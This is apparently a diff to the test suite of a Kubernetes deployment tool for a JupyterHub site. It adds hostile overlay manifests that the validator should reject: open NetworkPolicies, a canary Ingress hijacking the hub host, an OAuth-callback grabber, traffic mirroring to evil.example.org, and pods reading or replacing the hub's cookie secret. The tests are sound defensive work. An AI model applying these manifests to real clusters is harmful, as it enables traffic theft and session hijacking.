@@ -1210,6 +1210,120 @@ TAKEOVER = {
         "network",
         "Ingress heps/jupyterhub: metadata.annotations.nginx.ingress.kubernetes.io/server-snippet",
     ),
+    # NetworkPolicies add up: one of the overlay's opens what the base's closes
+    "network-policy-admitting-all": (
+        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open, "
+        "namespace: heps}\nspec: {podSelector: {matchLabels: {component: singleuser-server}}, "
+        "policyTypes: [Ingress], ingress: [{}]}\n",
+        "",
+        "network",
+        "NetworkPolicy heps/open: spec.ingress[0].from: no peers listed",
+    ),
+    "network-policy-admitting-namespaces": (
+        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open, "
+        "namespace: heps}\nspec: {podSelector: {}, ingress: [{from: [{podSelector: "
+        "{matchLabels: {a: b}}, namespaceSelector: {}}]}]}\n",
+        "",
+        "network",
+        "NetworkPolicy heps/open: spec.ingress[0].from[0]: admits more than pods of this",
+    ),
+    "network-policy-admitting-addresses": (
+        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open, "
+        "namespace: heps}\nspec: {podSelector: {}, ingress: [{from: [{ipBlock: "
+        "{cidr: 0.0.0.0/0}}]}]}\n",
+        "",
+        "network",
+        "NetworkPolicy heps/open: spec.ingress[0].from[0]: admits more than pods of this",
+    ),
+    "ingress-canary-taking-the-hosts-traffic": (
+        "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: steal\n"
+        "  namespace: heps\n  annotations: {nginx.ingress.kubernetes.io/canary: 'true', "
+        "nginx.ingress.kubernetes.io/canary-weight: '100'}\nspec:\n  ingressClassName: nginx\n"
+        "  rules: [{host: jupyter-testbed.heps.ihep.ac.cn, http: {paths: [{path: /, pathType: "
+        "Prefix, backend: {service: {name: proxy-public, port: {name: http}}}}]}}]\n",
+        "",
+        "network",
+        "Ingress heps/steal: metadata.annotations.nginx.ingress.kubernetes.io/canary:",
+    ),
+    "ingress-sharing-the-hub-host": (
+        "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: callback, "
+        "namespace: heps}\nspec:\n  ingressClassName: nginx\n  rules: [{host: "
+        "jupyter-testbed.heps.ihep.ac.cn, http: {paths: [{path: /hub/oauth_callback, pathType: "
+        "Exact, backend: {service: {name: grabber, port: {number: 80}}}}]}}]\n",
+        "",
+        "network",
+        "Ingress heps/callback: spec.rules: host jupyter-testbed.heps.ihep.ac.cn is routed by",
+    ),
+    "ingress-mirror": (
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\ndata: {}\n",
+        "  - target: {kind: Ingress, name: jupyterhub}\n    patch: |-\n"
+        "      - {op: add, path: /metadata/annotations/"
+        "nginx.ingress.kubernetes.io~1mirror-target, value: 'https://evil.example.org'}\n",
+        "network",
+        "Ingress heps/jupyterhub: metadata.annotations.nginx.ingress.kubernetes.io/mirror-target",
+    ),
+    "node-port": (
+        "apiVersion: v1\nkind: Service\nmetadata: {name: out, namespace: heps}\n"
+        "spec: {type: NodePort, selector: {app: x}, ports: [{port: 8081}]}\n",
+        "",
+        "network",
+        "Service heps/out: spec.type: NodePort",
+    ),
+    "pod-security-pinned-to-an-old-release": (
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\ndata: {}\n",
+        "  - target: {kind: Namespace, name: heps}\n    patch: |-\n"
+        "      - {op: add, path: /metadata/labels/pod-security.kubernetes.io~1enforce-version, "
+        "value: v1.0}\n",
+        "podSecurityAdmission",
+        "Namespace heps: metadata.labels.pod-security.kubernetes.io/enforce-version: v1.0",
+    ),
+    "root-ca-replaced": (
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: kube-root-ca.crt, namespace: heps}\n"
+        "data: {ca.crt: x}\n",
+        "",
+        "managed",
+        "ConfigMap heps/kube-root-ca.crt: metadata.name",
+    ),
+    "service-account-token-minted": (
+        "apiVersion: v1\nkind: Secret\nmetadata: {name: hub-token, namespace: heps, "
+        "annotations: {kubernetes.io/service-account.name: hub}}\n"
+        "type: kubernetes.io/service-account-token\n",
+        "",
+        "managed",
+        "Secret heps/hub-token: type: kubernetes.io/service-account-token",
+    ),
+    # any pod of heps may mount any Secret of heps: the site's hub keys (cookie secret)
+    "reads-the-hubs-secret": (
+        "apiVersion: v1\nkind: Pod\nmetadata: {name: stats, namespace: heps}\nspec:\n"
+        "  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}\n"
+        "  containers:\n  - name: c\n    image: busybox:1.36\n"
+        "    env: [{name: C, valueFrom: {secretKeyRef: {name: hub-secret, key: cookie-secret}}}]\n"
+        "    resources: {requests: {cpu: 10m, memory: 64Mi}, limits: {cpu: 10m, memory: 64Mi}}\n"
+        "    securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n",
+        "",
+        "secrets",
+        "Pod heps/stats: spec.containers[0].env[0]: reads the Secret hub-secret",
+    ),
+    # server-side apply forces conflicts: the site's cookie secret, of the author's choosing
+    "replaces-the-sites-secret": (
+        "apiVersion: v1\nkind: Secret\nmetadata: {name: hub-secret, namespace: heps}\n"
+        "stringData: {cookie-secret: known-to-the-author}\n",
+        "",
+        "managed",
+        "Secret heps/hub-secret: metadata.name: hub-secret is the site's",
+    ),
+    "control-plane": (
+        "apiVersion: v1\nkind: Pod\nmetadata: {name: cp, namespace: heps}\nspec:\n"
+        "  tolerations: [{operator: Exists}]\n"
+        "  nodeSelector: {node-role.kubernetes.io/control-plane: ''}\n"
+        "  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}\n"
+        "  containers:\n  - name: c\n    image: busybox:1.36\n"
+        "    resources: {requests: {cpu: 10m, memory: 64Mi}, limits: {cpu: 10m, memory: 64Mi}}\n"
+        "    securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n",
+        "",
+        "placement",
+        "Pod heps/cp: spec.tolerations[0]: tolerates the control plane's taint",
+    ),
     "mutating-webhook": (
         "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\n"
         "metadata: {name: evil}\nwebhooks:\n  - name: evil.example.org\n"
@@ -1300,6 +1414,25 @@ def test_the_platforms_namespaces_are_never_the_clusters(
     listed = f"reconcile:\n  namespaces: [heps, {namespace}]\n"
     settings.write_text(settings.read_text().replace("reconcile:\n", listed))
     one_line(heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"), "namespaces")
+
+
+def test_an_overlay_renders_no_secret_of_its_own(heps: Any, repo: Path) -> None:
+    """A secretGenerator named as the site's Secret: kustomize names it `hub-secret-<hash>`
+    and points the hub's references there, so the hub would read the author's cookie
+    secret; Secrets are the site's, made outside git (a `kind` exception shows one)."""
+    add_to_overlay(repo, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\n")
+    kustomization = repo / "k8s-overlays" / "overlays" / "testbed" / "kustomization.yaml"
+    kustomization.write_text(
+        kustomization.read_text()
+        + "secretGenerator:\n  - name: hub-secret\n    namespace: heps\n"
+        + "    literals: [cookie-secret=known-to-the-author]\n"
+    )
+    line = one_line(
+        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
+        "Secret heps/hub-secret-",
+        "(project policy: kind)",
+    )
+    assert "known-to-the-author" not in line
 
 
 @pytest.mark.parametrize("case", sorted(TAKEOVER))
